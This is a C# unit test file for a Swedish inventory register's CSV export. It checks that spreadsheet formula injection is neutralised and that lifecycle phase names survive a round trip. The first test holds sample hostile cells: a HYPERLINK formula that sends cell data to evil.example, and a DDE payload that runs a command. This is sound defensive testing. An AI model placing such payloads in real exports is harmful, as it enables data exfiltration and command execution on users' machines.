using Federation.Inventory.Import;
using Federation.Inventory.Tests.Support;

namespace Federation.Inventory.Tests.Import;

/// <summary>The register's CSV export is opened in spreadsheets: no cell may run as a formula, and export → import still changes nothing.</summary>
public sealed class RegisterCsvTests
{
    [Fact]
    public void A_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_and_imports_back_unchanged()
    {
        var hostile = Samples.System("formel") with
        {
            Name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Öppna\")",
            Description = "+cmd|' /C calc'!A0",
            Vendor = "@SUM(1+1)",
            Owner = "-2+3",
        };

        var csv = RegisterCsv.Write([hostile]);

        var cells = RegisterCsv.ReadRecords(csv)[1];
        Assert.All(cells, cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@', $"'{cell}' starts a formula"));

        var (rows, errors) = RegisterCsv.Parse(csv);
        Assert.Empty(errors);
        var imported = rows.Single().Build(hostile);
        Assert.Equal(hostile.Name, imported.Name);
        Assert.Equal(hostile.Description, imported.Description);
        Assert.Equal(hostile.Vendor, imported.Vendor);
        Assert.Equal(hostile.Owner, imported.Owner);
    }

    /// <summary>The export writes each phase in the words the pages use, and the import reads those, the English ones and the register's own names.</summary>
    [Theory]
    [InlineData("Förvaltning", Federation.Core.Feed.LifecyclePhase.Administration)]
    [InlineData("forvaltning", Federation.Core.Feed.LifecyclePhase.Administration)]
    [InlineData("Administration", Federation.Core.Feed.LifecyclePhase.Administration)]
    [InlineData("Användning och support", Federation.Core.Feed.LifecyclePhase.AnvandningOchSupport)]
    [InlineData("Use and support", Federation.Core.Feed.LifecyclePhase.AnvandningOchSupport)]
    [InlineData("AnvandningOchSupport", Federation.Core.Feed.LifecyclePhase.AnvandningOchSupport)]
    [InlineData("Being retired", Federation.Core.Feed.LifecyclePhase.Avveckling)]
    public void A_phase_is_read_by_the_words_people_use_for_it(string written, Federation.Core.Feed.LifecyclePhase phase) =>
        Assert.Equal(phase, RegisterCsv.ParseLifecycle(written));

    [Fact]
    public void Every_phase_is_exported_as_the_pages_name_it_and_imports_back()
    {
        foreach (var phase in Enum.GetValues<Federation.Core.Feed.LifecyclePhase>())
        {
            var system = Samples.System("fas") with { Lifecycle = phase };
            var csv = RegisterCsv.Write([system]);
            Assert.Contains(Federation.Inventory.Domain.RegisterText.Lifecycle(phase).Sv, csv, StringComparison.Ordinal);
            var (rows, errors) = RegisterCsv.Parse(csv);
            Assert.Empty(errors);
            Assert.Equal(phase, rows.Single().Build(system with { Lifecycle = Federation.Core.Feed.LifecyclePhase.Anskaffning }).Lifecycle);
        }
    }
}
